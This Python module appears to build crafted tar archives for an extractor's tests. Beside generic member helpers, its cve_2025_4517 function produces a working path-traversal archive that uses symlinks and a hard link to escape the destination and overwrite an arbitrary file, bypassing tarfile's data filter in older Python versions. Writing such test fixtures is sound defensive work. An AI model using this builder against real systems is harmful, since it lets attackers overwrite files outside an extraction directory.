"""Crafted tar archives for the extractor's tests, unit and end-to-end."""

from __future__ import annotations

import io
import tarfile
from typing import Any

Member = tuple[tarfile.TarInfo, bytes | None]


def tarball(members: list[Member], mode: str = "w:gz") -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode=mode) as tar:  # type: ignore[call-overload]
        for info, data in members:
            if data is not None:
                info.size = len(data)
            tar.addfile(info, io.BytesIO(data) if data is not None else None)
    return buf.getvalue()


def member(name: str, data: bytes | None = None, **attrs: Any) -> Member:
    info = tarfile.TarInfo(name)
    for key, value in attrs.items():
        setattr(info, key, value)
    return info, data


def symlink(name: str, target: str) -> Member:
    return member(name, type=tarfile.SYMTYPE, linkname=target)


def hardlink(name: str, target: str) -> Member:
    return member(name, type=tarfile.LNKTYPE, linkname=target)


def directory(name: str, mode: int = 0o755) -> Member:
    return member(name, type=tarfile.DIRTYPE, mode=mode)


CVE_PAYLOAD = b"written through the escape\n"


def cve_2025_4517(levels_up: int, target: str) -> list[Member]:
    """The CVE-2025-4517 shape: 16 nested 247-byte directories, each reached by a one-letter
    symlink, so ``a/b/.../p/<254 l>`` is short as a name but past PATH_MAX once resolved
    (where ``os.path.realpath`` gives up). A symlink there climbs back to the destination;
    ``escape`` climbs ``levels_up`` more through it; a hard link through ``escape`` catches
    ``target`` (a path relative to that directory), and a regular file of the same name as
    the hard link, mode 0777, is then written over it.

    Against tarfile's ``data`` filter before Python 3.11.13 this overwrites ``target``
    outside the destination and makes it 0755.
    """
    comp = "d" * 247
    steps = "abcdefghijklmnop"
    members: list[Member] = []
    path = ""
    for step in steps:
        members.append(directory(f"{path}{comp}"))
        members.append(symlink(f"{path}{step}", comp))
        path += comp + "/"
    deep_link = "/".join(steps) + "/" + "l" * 254
    members.append(symlink(deep_link, "../" * len(steps)))
    members.append(symlink("escape", deep_link + "/" + "../" * levels_up))
    members.append(hardlink("flaglink", f"escape/{target}"))
    members.append(member("flaglink", CVE_PAYLOAD, mode=0o777))
    return members
